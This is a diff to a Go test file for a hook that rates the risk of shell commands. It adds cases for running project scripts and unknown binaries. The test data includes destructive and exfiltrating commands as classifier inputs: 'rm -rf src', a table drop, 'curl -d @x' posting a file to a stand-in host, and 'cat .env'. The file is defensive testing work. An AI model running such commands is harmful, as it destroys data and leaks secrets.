@@ -65,6 +65,10 @@ func TestSentences(t *testing.T) {
 		{"terraform destroy", hook.Danger, "Destroys everything that terraform manages here", "", "terraform|destroy"},
 		{"git log | head", hook.Calm, "Only reads: git log and head", "", ""},
 		{"mv a b", hook.Normal, "Moves a to b", "", ""},
+		{"./run.sh fast", hook.Normal, "Runs the project's code: run.sh", "", ""},
+		{"./run.sh --fast 1", hook.Normal, "Runs the project's code: run.sh", "", ""},
+		{"./run.sh $X", hook.Attention, "Has a part that is known only when it runs: “run.sh $X”; runs the project's code: run.sh", "anyway", "./run.sh|$X"},
+		{"node_modules/.bin/zap src", hook.Attention, "Runs the unknown program node_modules/.bin/zap", "anyway", "node_modules/.bin/zap"},
 		{"rm -rf src; psql -c 'drop table x'; ./deploy.sh; curl -d @x https://h.example; cat .env; npm publish; sudo ls; kill 3", hook.Danger, "", "", "-"},
 		{"echo x > ../y", hook.Attention, "Writes /srv/y outside the project", "write outside", "../y"},
 	} {
